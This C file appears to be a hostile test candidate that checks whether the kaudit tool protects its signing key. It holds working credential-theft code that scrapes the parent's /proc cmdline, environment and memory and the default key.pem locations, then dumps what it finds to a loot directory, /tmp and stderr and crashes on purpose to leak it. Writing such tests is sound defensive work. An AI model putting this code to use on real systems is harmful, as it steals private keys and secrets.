/*
 * thief.c - a candidate that goes after the signing key
 * (tests/sh/attack_keys.sh).
 *
 * It reads everything a key could be in from where it runs: the parent's
 * /proc entries (cmdline, environ, cwd, memory: the supervisor when it is a
 * worker, the caller when it is an entry check forked from it), its own
 * memory (a fork of the supervisor holds the key), the --key argument of
 * the parent's command line (as given, relative to the parent's cwd and
 * absolute), $KAUDIT_KEY, $XDG_CONFIG_HOME/kaudit/key.pem and
 * $HOME/.config/kaudit/key.pem (its own environment's and the parent's).
 * Each thing it got goes, raw, to a file LOOT_DIR/<process>-<what> (a
 * folder in the claim's tree) and all of it to LOOT_FILE (in /tmp) and to
 * stderr; its last stderr line is "stolen: " and the first line of any PEM
 * body it found, so that a crash carries it into the case's error record.
 *
 *   -DTHIEF_CTOR   steal in a constructor (whoever loads the object)
 *   (always)       steal on the first call, then abort(): the case ends
 *                  in a crash whose message is the last stderr line
 *
 * Built with -DLOOT_DIR='"..."' -DLOOT_FILE='"..."'.
 */
#define _GNU_SOURCE
#include <signal.h>
#include <sys/types.h>

#include "attack.h"

#define MEM_CAP (2u << 20) /* bytes of memory taken from one process */

static char stolen[256];

static void note_pem(const char *data, size_t len)
{
	static const char begin[] = "PRIVATE KEY-----";
	if (stolen[0])
		return;
	const char *p = memmem(data, len, begin, sizeof begin - 1);
	if (!p)
		return;
	p += sizeof begin - 1;
	while (p < data + len && (*p == '\n' || *p == '\r'))
		p++;
	size_t n = 0;
	while (p + n < data + len && p[n] != '\n' && n < sizeof stolen - 1)
		n++;
	memcpy(stolen, p, n);
	stolen[n] = '\0';
}

static void keep(const char *who, const char *what, const char *data, size_t len)
{
	if (!data || !len)
		return;
	note_pem(data, len);
	char path[4096];
	snprintf(path, sizeof path, "%s/%s-%s", LOOT_DIR, who, what);
	for (char *s = path + strlen(LOOT_DIR) + 1; *s; s++)
		if (*s == '/')
			*s = '_';
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd >= 0) {
		(void)at_write_all(fd, data, len);
		close(fd);
	}
	fd = open(LOOT_FILE, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
	char head[512];
	int hn = snprintf(head, sizeof head, "\n== %s %s (%zu bytes)\n", who, what, len);
	if (fd >= 0) {
		(void)at_write_all(fd, head, (size_t)hn);
		(void)at_write_all(fd, data, len);
		close(fd);
	}
	(void)at_write_all(2, head, (size_t)hn);
	(void)at_write_all(2, data, len);
}

static void take_file(const char *who, const char *what, const char *path)
{
	size_t n = 0;
	char *d = at_slurp(path, 1 << 20, &n);
	keep(who, what, d, n);
	free(d);
}

/* The rw anonymous and heap mappings of PID's memory (via PID/mem). */
static void take_memory(const char *who, const char *what, const char *proc)
{
	char path[256];
	snprintf(path, sizeof path, "%s/maps", proc);
	size_t n = 0;
	char *maps = at_slurp(path, 1 << 20, &n);
	snprintf(path, sizeof path, "%s/mem", proc);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (!maps || fd < 0) {
		free(maps);
		if (fd >= 0)
			close(fd);
		return;
	}
	char *out = malloc(MEM_CAP);
	size_t got = 0;
	for (char *line = maps; out && line && *line && got < MEM_CAP;) {
		char *next = strchr(line, '\n');
		if (next)
			*next++ = '\0';
		unsigned long lo, hi;
		char perms[8] = "", name[512] = "";
		if (sscanf(line, "%lx-%lx %7s %*s %*s %*s %511[^\n]", &lo, &hi, perms, name) >= 3 &&
		    perms[0] == 'r' && perms[1] == 'w' &&
		    (name[0] == '\0' || strcmp(name, "[heap]") == 0)) {
			for (unsigned long a = lo; a < hi && got < MEM_CAP;) {
				size_t want = hi - a < MEM_CAP - got ? hi - a : MEM_CAP - got;
				ssize_t r = pread(fd, out + got, want, (off_t)a);
				if (r <= 0)
					break;
				got += (size_t)r;
				a += (unsigned long)r;
			}
		}
		line = next;
	}
	close(fd);
	keep(who, what, out, got);
	free(out);
	free(maps);
}

/* VAR=value from a NUL-separated environment block. */
static int env_value(const char *env, size_t len, const char *var, char *out, size_t cap)
{
	size_t vl = strlen(var);
	for (size_t i = 0; i < len; i += strlen(env + i) + 1)
		if (strncmp(env + i, var, vl) == 0 && env[i + vl] == '=') {
			snprintf(out, cap, "%s", env + i + vl + 1);
			return 0;
		}
	return -1;
}

static void take_default_keys(const char *who, const char *home, const char *xdg,
			      const char *kkey)
{
	char path[4096];
	if (kkey && *kkey)
		take_file(who, "KAUDIT_KEY", kkey);
	if (xdg && *xdg) {
		snprintf(path, sizeof path, "%s/kaudit/key.pem", xdg);
		take_file(who, "xdg-key", path);
	}
	if (home && *home) {
		snprintf(path, sizeof path, "%s/.config/kaudit/key.pem", home);
		take_file(who, "home-key", path);
	}
}

static void steal(const char *when)
{
	char who[64], proc[64], path[4200];
	pid_t pp = getppid();
	snprintf(who, sizeof who, "%s-%s%d", when, at_in_worker() ? "worker" : "other",
		 (int)getpid());
	snprintf(proc, sizeof proc, "/proc/%d", (int)pp);

	/* The parent: its command line, environment, folder, memory. */
	size_t cn = 0, en = 0;
	snprintf(path, sizeof path, "%s/cmdline", proc);
	char *cmd = at_slurp(path, 1 << 16, &cn);
	keep(who, "ppid-cmdline", cmd, cn);
	snprintf(path, sizeof path, "%s/environ", proc);
	char *env = at_slurp(path, 1 << 20, &en);
	keep(who, "ppid-environ", env, en);
	char cwd[4096] = "";
	snprintf(path, sizeof path, "%s/cwd", proc);
	ssize_t k = readlink(path, cwd, sizeof cwd - 1);
	cwd[k > 0 ? k : 0] = '\0';
	keep(who, "ppid-cwd", cwd, strlen(cwd));
	DIR *d = opendir(path);
	if (d) {
		char list[8192];
		size_t ln = 0;
		struct dirent *de;
		while ((de = readdir(d)) != NULL && ln < sizeof list - 300)
			ln += (size_t)snprintf(list + ln, sizeof list - ln, "%s\n", de->d_name);
		closedir(d);
		keep(who, "ppid-cwd-list", list, ln);
	}
	take_memory(who, "ppid-mem", proc);
	take_memory(who, "self-mem", "/proc/self");

	/* The --key it was given, every way it could be reached. */
	char arg[4096];
	if (cmd && at_argv_value(cmd, cn, "--key", arg, sizeof arg) == 0) {
		take_file(who, "keyarg", arg);
		snprintf(path, sizeof path, "%s/cwd/%s", proc, arg);
		take_file(who, "keyarg-via-ppid-cwd", path);
		if (arg[0] != '/' && cwd[0]) {
			snprintf(path, sizeof path, "%s/%s", cwd, arg);
			take_file(who, "keyarg-absolute", path);
		}
	}
	/* The default places, after our environment and after the parent's. */
	take_default_keys(who, getenv("HOME"), getenv("XDG_CONFIG_HOME"), getenv("KAUDIT_KEY"));
	char home[4096] = "", xdg[4096] = "", kk[4096] = "";
	if (env) {
		env_value(env, en, "HOME", home, sizeof home);
		env_value(env, en, "XDG_CONFIG_HOME", xdg, sizeof xdg);
		env_value(env, en, "KAUDIT_KEY", kk, sizeof kk);
		snprintf(who + strlen(who), sizeof who - strlen(who), "-ppidenv");
		take_default_keys(who, home, xdg, kk);
	}
	free(cmd);
	free(env);
	char last[400];
	int n = snprintf(last, sizeof last, "\nstolen: %s\n", stolen[0] ? stolen : "nothing");
	(void)at_write_all(2, last, (size_t)n);
}

#ifdef THIEF_CTOR
__attribute__((constructor)) static void thief_ctor(void)
{
	steal("ctor");
}
#endif

KAUDIT_ENTRY(cheat)
{
	(void)l;
	steal("call");
	abort();
}
